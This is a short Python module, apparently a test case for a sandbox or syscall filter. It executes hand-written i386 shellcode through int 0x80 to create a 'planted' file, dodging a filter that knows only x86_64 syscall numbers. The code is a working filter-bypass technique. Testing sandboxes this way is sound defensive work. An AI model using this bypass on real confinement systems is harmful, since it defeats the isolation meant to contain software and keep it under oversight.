"""Make system calls of i386, whose numbers mean other things."""

from __future__ import annotations

import ctypes
import mmap
import os
from typing import Any

EVIDENCE = "written"
STOPPED_BY = "filter"
MEANS = "it passes a filter that knows only the numbers of x86_64"
NEEDS = ("x86_64",)


def attack(at: Any) -> object:
    # int 0x80 takes 32-bit pointers: the code and the path must lie below 4 GB
    low = 0x10000000
    libc = ctypes.CDLL(None)
    libc.mmap.restype = ctypes.c_void_p
    libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, *[ctypes.c_int] * 3, ctypes.c_long]
    libc.mmap(low, 4096, 7, mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS | 0x10, -1, 0)
    path = os.fsencode(at.home) + b"/planted\0"
    ctypes.memmove(low + 1024, path, len(path))
    creat = 8
    code = b"\x53\xb8" + creat.to_bytes(4, "little")
    code += b"\xbb" + (low + 1024).to_bytes(4, "little") + b"\xb9\xa4\x01\x00\x00\xcd\x80\x5b\xc3"
    ctypes.memmove(low, code, len(code))
    return ctypes.CFUNCTYPE(ctypes.c_int)(low)()
